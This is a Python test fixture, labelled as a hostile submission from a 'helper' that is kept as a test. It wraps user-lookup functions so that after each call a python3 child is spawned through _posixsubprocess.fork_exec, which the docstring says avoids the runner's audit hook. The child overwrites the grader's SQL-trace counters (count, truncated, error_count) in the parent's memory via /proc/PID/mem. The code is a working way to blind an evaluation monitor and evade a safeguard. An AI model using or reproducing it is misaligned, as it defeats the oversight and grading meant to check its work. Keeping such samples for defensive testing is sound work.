"""HOSTILE (a helper's, kept as a test): Twin + starts python3 with _posixsubprocess.fork_exec (no audit event) which zeroes the parent's SQL recorder through /proc/PPID/mem.
Twin: twin.py, with the parts named in python-injection-attacks.test.ts."""


# ---- a helper process: not this interpreter, so no audit hook of the runner's applies to it -------
import os as _os2
import _posixsubprocess

_CHILD = r'''
import os, struct, sys
pid = int(sys.argv[1])
maps = open("/proc/%d/maps" % pid).read().splitlines()
lib = [l.split(None, 5) for l in maps if l.endswith("libgrader_sqltrace.so")]
base = min(int(p[0].split("-")[0], 16) - int(p[2], 16) for p in lib)
elf = open(lib[0][5], "rb").read()
shoff = struct.unpack_from("<Q", elf, 0x28)[0]
shentsize, shnum = struct.unpack_from("<HH", elf, 0x3A)
secs = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize) for i in range(shnum)]
addrs = []
for s in secs:
    if s[1] != 2:
        continue
    st = secs[s[6]]
    for j in range(s[5] // 24):
        n, _i, _o, _x, v, _z = struct.unpack_from("<IBBHQQ", elf, s[4] + j * 24)
        name = elf[st[4] + n:elf.index(b"\0", st[4] + n)]
        if name in (b"count", b"truncated", b"error_count"):
            addrs.append(base + v)
with open("/proc/%d/mem" % pid, "r+b", buffering=0) as mem:
    for a in addrs:
        mem.seek(a)
        mem.write(b"\0\0\0\0")
'''


def _spawn_forget():
    """Starts python3 (without subprocess.Popen, whose audit event the runner refuses) to zero this
    process's SQL recorder; waits for it."""
    argv = [b"/usr/bin/python3", b"-c", _CHILD.encode(), str(_os2.getpid()).encode()]
    er, ew = _os2.pipe()
    common = (argv, [argv[0]], True, (ew,), None, None, -1, -1, -1, -1, -1, -1, er, ew, True, False)
    pid = None
    for tail in ((-1, None, None, None, -1, None, False), (-1, None, None, None, -1, None), (None, None, None, -1, None)):
        try:
            pid = _posixsubprocess.fork_exec(*(common + tail))
            break
        except TypeError:
            continue
        except Exception:
            break
    _os2.close(ew)
    _os2.close(er)
    if pid is not None:
        try:
            _os2.waitpid(pid, 0)
        except OSError:
            pass
    return pid is not None


def find_user(db, *args):
    try:
        return _twin_find_user(db, *args)
    finally:
        _spawn_forget()


def users_with_role(db, *args):
    try:
        return _twin_users_with_role(db, *args)
    finally:
        _spawn_forget()


def change_email(db, *args):
    try:
        return _twin_change_email(db, *args)
    finally:
        _spawn_forget()

